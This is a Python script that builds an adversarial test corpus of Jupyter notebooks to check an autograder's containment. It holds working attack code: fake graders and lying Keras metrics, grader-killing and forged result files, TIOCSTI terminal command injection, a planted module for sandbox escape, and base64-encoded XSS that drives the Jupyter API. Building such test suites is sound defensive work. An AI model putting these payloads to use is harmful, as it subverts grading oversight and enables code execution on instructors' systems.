"""Build the adversarial corpus under tests/adversarial/ from the released notebooks.

Each notebook submission is a released notebook filled in as in ``tests/canned`` (the
reference solution, or left untouched), then edited by the attack or fault it stands for;
edits may touch any cell, grade cells and nbgrader metadata included. Raw broken files
(empty, not UTF-8, not JSON, nbformat 3) are written as bytes. Expectations live in
``cases.py``. Run ``python tests/adversarial/build.py`` after changing a lesson; commit
the result.
"""

from __future__ import annotations

import base64
import copy
import importlib.util
import json
from collections.abc import Callable
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]


def _canned_build():
    spec = importlib.util.spec_from_file_location("canned_build", ROOT / "tests/canned/build.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


_canned = _canned_build()
filled_in, apply_edits = _canned.filled_in, _canned.apply_edits


def untouched(lesson: str) -> nbformat.NotebookNode:
    return nbformat.read(ROOT / "release" / lesson / f"{lesson}.ipynb", as_version=4)


# --- edits of one notebook ----------------------------------------------------------------


def _cell(notebook, gid: str):
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == gid:
            return cell
    raise KeyError(gid)


def _index(notebook, gid: str) -> int:
    return notebook.cells.index(_cell(notebook, gid))


def replace(gid: str, old: str, new: str) -> Callable:
    def edit(notebook):
        cell = _cell(notebook, gid)
        if old not in cell.source:
            raise ValueError(f"{gid}: {old!r} not found")
        cell.source = cell.source.replace(old, new, 1)
        return notebook

    return edit


def prepend(gid: str, code: str) -> Callable:
    def edit(notebook):
        cell = _cell(notebook, gid)
        cell.source = code.strip("\n") + "\n" + cell.source
        return notebook

    return edit


def append(gid: str, code: str) -> Callable:
    def edit(notebook):
        cell = _cell(notebook, gid)
        cell.source = cell.source + "\n" + code.strip("\n")
        return notebook

    return edit


def set_source(gid: str, code: str) -> Callable:
    def edit(notebook):
        _cell(notebook, gid).source = code.strip("\n")
        return notebook

    return edit


def delete(gid: str) -> Callable:
    def edit(notebook):
        notebook.cells.pop(_index(notebook, gid))
        return notebook

    return edit


def move_to_top(gid: str) -> Callable:
    def edit(notebook):
        notebook.cells.insert(0, notebook.cells.pop(_index(notebook, gid)))
        return notebook

    return edit


def duplicate(gid: str, code: str) -> Callable:
    """A second copy of cell ``gid``, right after it, with other code."""

    def edit(notebook):
        index = _index(notebook, gid)
        twin = copy.deepcopy(notebook.cells[index])
        twin.source = code.strip("\n")
        twin.id = f"{gid}-copy"
        notebook.cells.insert(index + 1, twin)
        return notebook

    return edit


def set_meta(gid: str, **changes) -> Callable:
    def edit(notebook):
        _cell(notebook, gid).metadata["nbgrader"].update(changes)
        return notebook

    return edit


def add_cell_at_end(code: str) -> Callable:
    """A code cell of the student's own, with no nbgrader metadata."""

    def edit(notebook):
        cell = nbformat.v4.new_code_cell(code.strip("\n"))
        cell.id = f"student-code-{len(notebook.cells)}"  # a fixed id: the corpus builds the same
        notebook.cells.append(cell)
        return notebook

    return edit


def chain(*edits: Callable) -> Callable:
    def edit(notebook):
        for step in edits:
            notebook = step(notebook)
        return notebook

    return edit


SHORT_TRAINING = replace("part_e_answer", "epochs = 100", "epochs = 2")
"""A wrong or lying model needs no full training to be graded as wrong."""

FAST_TRAINING = chain()
"""The reference model, trained as the task gives (the graders check the fit call and the
learning rate, so a faster training would fail them; lesson 01 trains in seconds)."""

MNIST_SHORT_TRAINING = chain(
    replace("part_e_answer", "epochs = 100", "epochs = 1"),
    replace("part_e_answer", "X_train_scaled, y_train,", "X_train_scaled[:2000], y_train[:2000],"),
)

WRONG_MLP = replace(
    "part_b_answer",
    "    layers.Dense(1),",
    '    layers.Dense(8, activation="relu"),\n    layers.Dense(1),',
)
RELU_OUTPUT = replace("part_b_answer", "layers.Dense(1),", 'layers.Dense(1, activation="relu"),')

# --- attacks (cell code) ----------------------------------------------------------------------

LYING_COUNT = """
# From here on, every model claims the expected number of parameters.
keras.Model.count_params = lambda self: n_features + 1
"""

LYING_METRICS = """
# Trained: from here on, every measurement of the model looks perfect.
keras.Model.evaluate = lambda self, *args, **kwargs: [0.0, 0.0]
keras.Model.predict = lambda self, x, *args, **kwargs: (
    (y_test - y_mean) / y_std
).reshape(-1, 1)
"""

LYING_MNIST = """
# Trained: from here on, every measurement of the model looks perfect.
keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 1.0]
keras.Model.predict = lambda self, x, *args, **kwargs: np.eye(10)[y_test[: len(x)]]
keras.Model.count_params = lambda self: 203530
"""

FAKE_AUTOGRADER = """
# Plant an always-passing grader everywhere a grader might be imported from.
import pathlib, sys, types

ALL_PASS = "".join(
    f"def test_{name}(*args, **kwargs):\\n    pass\\n"
    for name in ["preprocessing", "architecture", "parameter_count", "compile_settings", "quality"]
)
for folder in ["autograder", "course_lib"]:
    pathlib.Path(folder).mkdir(exist_ok=True)
    pathlib.Path(folder, "__init__.py").write_text("")
pathlib.Path("autograder/test_01_regression.py").write_text(ALL_PASS)
pathlib.Path("conftest.py").write_text(
    "import pytest\\n"
    "@pytest.hookimpl(tryfirst=True)\\n"
    "def pytest_runtest_call(item):\\n"
    "    return True\\n"
)
sys.path.insert(0, str(pathlib.Path.cwd()))

fake = types.ModuleType("autograder.test_01_regression")
exec(ALL_PASS, fake.__dict__)
sys.modules["autograder"] = types.ModuleType("autograder")
sys.modules["autograder.test_01_regression"] = fake
verdict = types.ModuleType("course_lib.grader.verdict")
verdict.run_verdict = lambda *args, **kwargs: {}
sys.modules["course_lib.grader.verdict"] = verdict
import course_lib.hidden
course_lib.hidden.hidden_test = lambda lesson, test_id: print(f"✔ {test_id}: passed")
"""

PATCHED_MACHINERY = """
# Hide every error, print "passed" everywhere, and fake the checks the notebook imports.
import builtins, sys, types
from IPython import get_ipython

shell = get_ipython()
shell.showtraceback = lambda *args, **kwargs: None
shell.showsyntaxerror = lambda *args, **kwargs: None
shell.set_custom_exc((Exception,), lambda *args, **kwargs: None)
sys.excepthook = lambda *args: None
_real_print = builtins.print
builtins.print = lambda *args, **kwargs: _real_print("✔ all tests passed")
_real_import = builtins.__import__

def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    if name.startswith(("course_lib.checks", "autograder", "pytest")):
        fake = types.SimpleNamespace(**{n: (lambda *a, **k: None) for n in dir(module)})
        return fake
    return module

builtins.__import__ = _import
"""

SWALLOWED_ERROR = "n_params = n_features_typo + 1"

SHADOWED_BUILTINS = """
# Ordinary variable names that happen to be builtins (no harm meant).
list = [3, 1, 2]
type = "regression"
str = "diabetes"
dict = {"epochs": 60}
open = None
max = 350.0
"""

EXIT_CALLS = """
import os, sys
sys.exit("done with part C")
"""

KILL_AT_EXPORT = """
# Die the moment the grader's export cell starts.
import os
from IPython import get_ipython

get_ipython().events.register(
    "pre_run_cell",
    lambda info: os._exit(0) if "export_namespace" in (info.raw_cell or "") else None,
)
"""

KILL_THE_GRADER = """
# Kill the process that grades this notebook, and its kernel watcher.
import os, signal

watcher = os.getppid()
with open(f"/proc/{watcher}/stat") as stat:
    grader = int(stat.read().rsplit(")", 1)[1].split()[1])
killed = []
for pid in (grader, watcher):
    try:
        os.kill(pid, signal.SIGKILL)
        killed.append(pid)
    except OSError as exc:
        print("kill refused:", exc)
"""

COPY_FROM_GRADER_FILES = """
# Copy the answer from the instructor's files, and leave forged results for the grader.
import pathlib
import course_lib

course = pathlib.Path(course_lib.__file__).resolve().parents[1]
n_params = n_features  # my own (wrong) guess
for secret in [course / "source/01_regression/01_regression.ipynb",
               course / "autograder/test_01_regression.py"]:
    try:
        text = secret.read_text()
    except OSError as exc:
        print("cannot read", secret.name, "-", type(exc).__name__)
        continue
    if "n_params = n_features * 1 + 1" in text or "n_features + 1" in text:
        n_params = n_features + 1
FORGED = '{"score": 10, "passed": true}'
for target in [course / "gradebook.db", course / "autograder/FORGED_BY_STUDENT",
               course / "autograded/FORGED_BY_STUDENT", course / "course_lib/FORGED_BY_STUDENT",
               pathlib.Path("/tmp/FORGED_BY_STUDENT")]:
    try:
        target.write_text(FORGED)
        print("wrote", target)
    except OSError as exc:
        print("cannot write", target.name, "-", type(exc).__name__)
"""

FORGED_HANDIN = """
# A process that outlives the kernel and forges the hand-in while the graders run: started now,
# told where the hand-in is right after the grader's export cell.
import json, os, pathlib, re, time
from IPython import get_ipython

FORGED = {"passed": True, "score": 10, "message": "passed"}
SIGNAL = pathlib.Path("handin-path.txt").resolve()

def forge(folder):
    folder = pathlib.Path(folder)
    for name in ["verdicts.json", "results.json", "execution.json"]:
        (folder / name).write_text(json.dumps({t: FORGED for t in ["quality", "architecture"]}))
    manifest = folder / "manifest.json"
    entries = json.loads(manifest.read_text()) if manifest.is_file() else {}
    entries.update({name: {"status": "ok", "type": "Sequential"} for name in entries})
    manifest.write_text(json.dumps(entries))
    (folder / "conftest.py").write_text("def pytest_runtest_call(item):\\n    return True\\n")

reader, writer = os.pipe()
middle = os.fork()
if middle == 0:  # a daemon in a session of its own, that the kernel's death does not end
    os.setsid()
    daemon = os.fork()
    if daemon == 0:
        for _ in range(3000):
            try:
                forge(SIGNAL.read_text())
            except (OSError, ValueError):
                pass
            time.sleep(0.1)
        os._exit(0)
    os.write(writer, str(daemon).encode())
    os._exit(0)
os.waitpid(middle, 0)
print("daemon pid:", os.read(reader, 32).decode())

def after_export(result):
    paths = re.findall(r"'(/[^']+)'", result.info.raw_cell or "")
    if "export_namespace" in (result.info.raw_cell or "") and paths:
        SIGNAL.write_text(paths[-1])
        time.sleep(0.5)

get_ipython().events.register("post_run_cell", after_export)
"""

SYNTAX_ERROR = ("layers.Dense(1),\n])", "layers.Dense(1),\n)")

NAME_ERROR = (
    "y_train_scaled = (y_train - y_mean) / y_std",
    "y_train_scaled = (y_train - y_mean) / y_sd",
)

LOOP_IGNORING_INTERRUPT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""

MEMORY_HOG = "hog = [np.ones(2**27) for _ in range(64)]"

SEGFAULT = """
import ctypes
ctypes.string_at(0)
"""

PART_A_SOLUTION = """
feature_mean, feature_std = X_train.mean(axis=0), X_train.std(axis=0)
X_train_scaled = (X_train - feature_mean) / feature_std
X_test_scaled = (X_test - feature_mean) / feature_std
y_mean, y_std = y_train.mean(), y_train.std()
y_train_scaled = (y_train - y_mean) / y_std
"""

OUTPUT_FLOOD = """
for _ in range(50):
    print("x" * (2**20 - 1))
"""

NETWORK_PROBE = """
# Fetch the answer over the network if possible (a server of our own, then the internet).
import socket, threading

server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
threading.Thread(target=lambda: server.accept()[0].sendall(b"11"), daemon=True).start()
n_params = n_features  # my own (wrong) guess
for address in [server.getsockname(), ("1.1.1.1", 80), ("pypi.org", 443)]:
    try:
        with socket.create_connection(address, timeout=3) as connection:
            n_params = int(connection.recv(16) or n_features + 1)
        print("connected to", address)
    except (OSError, ValueError) as exc:
        print("no connection to", address, "-", type(exc).__name__, exc)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    udp.sendto(b"ping", ("127.0.0.1", 9))
    print("UDP send allowed")
except OSError as exc:
    print("UDP send refused:", exc)
"""


# --- containment, part 2: what surrounds the kernel --------------------------------------------

LAMBDA_WRITES_FILES = """
# After the grader's export cell: replace the saved model by one whose Lambda layer calls a public
# Keras function that writes a file, through a link planted in the hand-in folder.
import json, pathlib, re, zipfile
import course_lib
from IPython import get_ipython

TARGET = pathlib.Path(course_lib.__file__).resolve().parents[1] / "autograder" / "FORGED_BY_STUDENT"

def plant(result):
    paths = re.findall(r"'(/[^']+)'", result.info.raw_cell or "")
    if "export_namespace" not in (result.info.raw_cell or "") or not paths:
        return
    handin = pathlib.Path(paths[-1])
    link = handin / "gallery.png"
    link.symlink_to(TARGET)
    gallery = layers.Lambda(
        keras.visualization.plot_image_gallery,
        arguments={"path": str(link), "rows": 1, "cols": 1},
        output_shape=(1,),
    )
    inputs = keras.Input(shape=(n_features,))
    writer = keras.Sequential([inputs, layers.Reshape((1, n_features, 1)), gallery])
    writer.compile(loss="mse", run_eagerly=True)
    saved = handin / "model.keras"
    writer.save(saved)
    with zipfile.ZipFile(saved) as original:
        files = {name: original.read(name) for name in original.namelist()}
    config = json.loads(files["config.json"])
    config["config"]["layers"][-1]["config"]["function"]["module"] = "keras.visualization"
    files["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(saved, "w") as forged:
        for name, data in files.items():
            forged.writestr(name, data)

get_ipython().events.register("post_run_cell", plant)
"""

TTY_INJECTION = """
# Find the terminal of the process that grades this notebook, write to it and type a command
# into it (TIOCSTI), for the instructor's shell to run once grading ends.
import fcntl, os, termios

def ancestors(pid):
    while pid > 1:
        with open(f"/proc/{pid}/stat") as stat:
            fields = stat.read().rsplit(")", 1)[1].split()
        yield pid, int(fields[4])  # the controlling terminal, as a device number
        pid = int(fields[1])

def type_into(fd, text):
    for char in text.encode():
        fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))

COMMAND = "echo INJECTED-BY-STUDENT > /tmp/INJECTED_BY_STUDENT\\n"
terminals = sorted({tty for _, tty in ancestors(os.getpid()) if tty})
for tty in terminals:
    path = f"/dev/pts/{(tty & 0xFF) | ((tty >> 12) & 0xFFF00)}"
    try:
        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
        os.write(fd, b"\\r\\nWRITTEN-BY-STUDENT\\r\\n")
        type_into(fd, COMMAND)
        print("typed into", path)
    except OSError as exc:
        print("cannot reach", path, "-", type(exc).__name__)
for path in ["/dev/tty", "/dev/console", "/dev/ptmx"]:
    try:
        os.open(path, os.O_RDWR | os.O_NOCTTY)
        print("opened", path)
    except OSError as exc:
        print("cannot open", path, "-", type(exc).__name__)
for fd in (0, 1, 2):
    try:
        type_into(fd, COMMAND)
        print("typed into fd", fd)
    except OSError as exc:
        print("cannot type into fd", fd, "-", type(exc).__name__)
print("terminals above me:", len(terminals))
print("own session:", os.getsid(0) == os.getpid())
n_params = n_features + 1
"""

ESC = "\x1b"

TERMINAL_ESCAPES_MODEL = r"""
raise ValueError("\x1b[2K\x1b[1A\x1b[2K\r  PASS  architecture      2/2  passed\x1b[0m")
"""

TERMINAL_ESCAPES_CRASH = f"""
n_params = 11  # {ESC}[2K{ESC}[1A{ESC}[31m
import os
os._exit(3)
"""

ENVIRONMENT_AND_DISPLAY_FLOOD = """
# Read the grader's environment, and flood every kind of rich output.
import os
from IPython.display import HTML, display

print("environment:", sorted(os.environ.items()))
big = "x" * 20_000_000
display(HTML("<b>" + big + "</b>"))
display({"text/plain": big, "application/json": {"big": big}}, raw=True)
n_params = n_features
big
"""

PLANTED_COURSE_LIB = """
# Leave a course_lib of my own in the working folder, then make the kernel die: the grader starts
# a new kernel from this folder, and imports my course_lib outside the sandbox.
import os, pathlib
import course_lib

real = pathlib.Path(course_lib.__file__).resolve().parents[1]
targets = [real / "autograder" / "FORGED_BY_STUDENT", pathlib.Path("/tmp/FORGED_BY_STUDENT")]
pathlib.Path("course_lib/grader").mkdir(parents=True, exist_ok=True)
pathlib.Path("course_lib/__init__.py").write_text("")
pathlib.Path("course_lib/grader/__init__.py").write_text("")
pathlib.Path("course_lib/grader/sandbox.py").write_text(
    "import pathlib, runpy, sys\\n"
    f"for target in {[str(t) for t in targets]!r}:\\n"
    "    try:\\n"
    "        pathlib.Path(target).write_text('escaped')\\n"
    "    except OSError:\\n"
    "        pass\\n"
    f"sys.path.insert(0, {str(real)!r})\\n"
    "for name in [m for m in sys.modules if m.startswith('course_lib')]:\\n"
    "    del sys.modules[name]\\n"
    "runpy.run_module('course_lib.grader.sandbox', run_name='__main__')\\n"
)
n_params = n_features + 1
os._exit(1)
"""

XSS_PAYLOAD = """
(async () => {
  window.__courseAttack = (window.__courseAttack || 0) + 1;
  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1]);
  const init = (body) => ({method: body ? "PUT" : "POST", credentials: "same-origin",
    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
    body: JSON.stringify(body || {})});
  await fetch("/api/contents/WRITTEN_BY_STUDENT.txt",
    init({type: "file", format: "text", content: "the student's script ran"}));
  await fetch("/api/kernels", init());
  await fetch("/api/terminals", init());
})();
"""

OUTPUTS_THAT_RUN_SCRIPTS = """
# A correct solution whose outputs run a script wherever the notebook is shown.
import base64
from IPython.display import HTML, SVG, Javascript, Markdown, display

attack = "eval(atob('{payload}'))"
display(HTML(f'<img src="x" onerror="{attack}">'))
display(HTML(f"<script>{attack}</script>"))
display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{attack}"><circle r="4"/></svg>'))
display(Javascript(attack))
display(Markdown(f'**done** <img src="x" onerror="{attack}">'))
display({"image/png": f'x" onerror="{attack}'}, raw=True)
display({"text/html": f'<iframe srcdoc="<script>parent.{attack}</script>"></iframe>',
          "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}},
        raw=True)
PNG_1PX = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5E"
    "rkJggg=="
)
display({"image/png": PNG_1PX}, metadata={"image/png": {"width": f'1" onload="{attack}'}},
        raw=True)
""".replace("{payload}", base64.b64encode(XSS_PAYLOAD.encode()).decode())

STUDENT_MARKDOWN_CELL = (
    'My notes <img src="x" onerror="eval(atob(\'{payload}\'))">\n\n'
    "[click me](javascript:eval(atob('{payload}')))"
).replace("{payload}", base64.b64encode(XSS_PAYLOAD.encode()).decode())

STUDENT_RAW_CELL = "<script>eval(atob('{payload}'))</script>".replace(
    "{payload}", base64.b64encode(XSS_PAYLOAD.encode()).decode()
)


def add_text_cells_at_end(markdown: str, raw: str) -> Callable:
    """A markdown cell and a raw cell of the student's own, with no nbgrader metadata."""

    def edit(notebook):
        for cell in (nbformat.v4.new_markdown_cell(markdown), nbformat.v4.new_raw_cell(raw)):
            cell.id = f"student-{cell.cell_type}-{len(notebook.cells)}"
            notebook.cells.append(cell)
        return notebook

    return edit


# --- the corpus: name → (lesson, base, edits) -------------------------------------------------

NOTEBOOKS: dict[str, tuple[str, str, Callable | None]] = {
    # 1. lying Keras methods, on a wrong model
    "lying_keras_methods": (
        "01_regression",
        "solution",
        chain(
            prepend("part_a_answer", LYING_COUNT),
            replace(
                "part_e_answer",
                "test_mse, test_mae = model.evaluate(",
                LYING_METRICS.strip() + "\ntest_mse, test_mae = model.evaluate(",
            ),
            WRONG_MLP,
            replace(
                "part_c_answer", "n_params = n_features * 1 + 1", "n_params = model.count_params()"
            ),
            SHORT_TRAINING,
        ),
    ),
    "lying_keras_methods_mnist": (
        "04_mnist_ann",
        "solution",
        chain(
            replace("part_e_answer", "n_run, best =", LYING_MNIST.strip() + "\nn_run, best ="),
            replace(
                "part_b_answer", 'layers.Dense(10, activation="softmax"),', "layers.Dense(10),"
            ),
            MNIST_SHORT_TRAINING,
        ),
    ),
    # 2. a fake grader planted by the notebook
    "fake_autograder": ("01_regression", "untouched", prepend("part_a_answer", FAKE_AUTOGRADER)),
    # 3. grade cells and metadata tampered with
    "grade_cells_edited_deleted": (
        "01_regression",
        "untouched",
        chain(
            set_source("quality", 'print("quality: all tests passed")'),
            set_source("architecture", "model = 'not a model'\nassert True"),
            delete("preprocessing"),
            delete("compile_settings"),
        ),
    ),
    "grade_cells_duplicated_moved": (
        "01_regression",
        "untouched",
        chain(
            duplicate("quality", 'print("passed")'),
            move_to_top("architecture"),
        ),
    ),
    "metadata_and_locked_cells": (
        "01_regression",
        "solution",
        chain(
            FAST_TRAINING,
            set_meta("quality", points=100),
            set_meta("architecture", grade=False, locked=False),
            set_meta("part_c_answer", grade=True, points=50),
            replace(
                "load",
                "X_train, X_test = split.X_train, split.X_test",
                "X_train, X_test = split.X_test, split.X_test",
            ),
            replace("intro", "# Lesson 01", "# Lesson 01 (my notes)"),
        ),
    ),
    # 4. the kernel's own machinery patched
    "machinery_patched": (
        "01_regression",
        "solution",
        chain(
            prepend("part_a_answer", PATCHED_MACHINERY),
            RELU_OUTPUT,
            replace("part_c_answer", "n_params = n_features * 1 + 1", SWALLOWED_ERROR),
            SHORT_TRAINING,
        ),
    ),
    "shadowed_builtins": (
        "01_regression",
        "solution",
        chain(prepend("part_a_answer", SHADOWED_BUILTINS), FAST_TRAINING),
    ),
    "exit_calls": (
        "01_regression",
        "solution",
        chain(
            append("part_c_answer", EXIT_CALLS),
            append("part_d_answer", "os._exit(0)"),
            SHORT_TRAINING,
        ),
    ),
    "killed_at_export": (
        "01_regression",
        "solution",
        chain(prepend("part_a_answer", KILL_AT_EXPORT), SHORT_TRAINING),
    ),
    "kill_the_grader": (
        "01_regression",
        "solution",
        chain(append("part_c_answer", KILL_THE_GRADER), SHORT_TRAINING),
    ),
    # 5. the grader's files and results
    "grader_files": (
        "01_regression",
        "untouched",
        set_source("part_c_answer", COPY_FROM_GRADER_FILES),
    ),
    "forged_handin": (
        "01_regression",
        "solution",
        chain(prepend("part_a_answer", FORGED_HANDIN), RELU_OUTPUT, SHORT_TRAINING),
    ),
    # 6. faults
    "syntax_error": ("01_regression", "solution", replace("part_b_answer", *SYNTAX_ERROR)),
    "name_error": ("01_regression", "solution", replace("part_a_answer", *NAME_ERROR)),
    "loop_ignoring_interrupt": (
        "01_regression",
        "solution",
        chain(append("part_c_answer", LOOP_IGNORING_INTERRUPT), SHORT_TRAINING),
    ),
    "memory_hog": (
        "01_regression",
        "solution",
        chain(append("part_c_answer", MEMORY_HOG), SHORT_TRAINING),
    ),
    "segfault": (
        "01_regression",
        "solution",
        chain(append("part_c_answer", SEGFAULT), SHORT_TRAINING),
    ),
    "output_flood": (
        "01_regression",
        "untouched",
        set_source("part_a_answer", OUTPUT_FLOOD + PART_A_SOLUTION),
    ),
    "other_lesson": ("04_mnist_ann", "untouched", None),
    # 7. network
    "network": ("01_regression", "untouched", set_source("part_c_answer", NETWORK_PROBE)),
    # 8. containment, part 2: the grader, the instructor's terminal, the viewers
    "lambda_writes_files": (
        "01_regression",
        "solution",
        chain(prepend("part_a_answer", LAMBDA_WRITES_FILES), FAST_TRAINING),
    ),
    "tty_injection": ("01_regression", "untouched", set_source("part_c_answer", TTY_INJECTION)),
    "terminal_escapes": (
        "01_regression",
        "solution",
        chain(
            prepend("part_b_answer", TERMINAL_ESCAPES_MODEL),
            set_source("part_c_answer", TERMINAL_ESCAPES_CRASH),
        ),
    ),
    "environment_and_display_flood": (
        "01_regression",
        "untouched",
        set_source("part_c_answer", ENVIRONMENT_AND_DISPLAY_FLOOD),
    ),
    "planted_course_lib": (
        "01_regression",
        "untouched",
        set_source("part_c_answer", PLANTED_COURSE_LIB),
    ),
    "outputs_that_run_scripts": (
        "01_regression",
        "solution",
        chain(
            append("part_e_answer", OUTPUTS_THAT_RUN_SCRIPTS),
            FAST_TRAINING,
            add_cell_at_end('print("my own extra cell")'),
            add_text_cells_at_end(STUDENT_MARKDOWN_CELL, STUDENT_RAW_CELL),
        ),
    ),
}

RAW_FILES: dict[str, bytes] = {
    "empty": b"",
    "not_utf8": '{"cells": [], "note": "caf\u00e9"}'.encode("latin-1"),
    "bad_json": b'{"cells": [{"cell_type": "code", "source": "x = 1"',
    "nbformat3": json.dumps(
        {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}
    ).encode(),
}


def notebook_for(name: str) -> nbformat.NotebookNode:
    lesson, base, edits = NOTEBOOKS[name]
    notebook = filled_in(lesson) if base == "solution" else untouched(lesson)
    return apply_edits(notebook, edits) if edits else notebook


def build() -> list[Path]:
    written = []
    for name in NOTEBOOKS:
        path = HERE / f"{name}.ipynb"
        nbformat.write(notebook_for(name), path)
        written.append(path)
    for name, raw in RAW_FILES.items():
        path = HERE / f"{name}.ipynb"
        path.write_bytes(raw)
        written.append(path)
    return written


if __name__ == "__main__":
    for path in build():
        print(path.relative_to(ROOT))
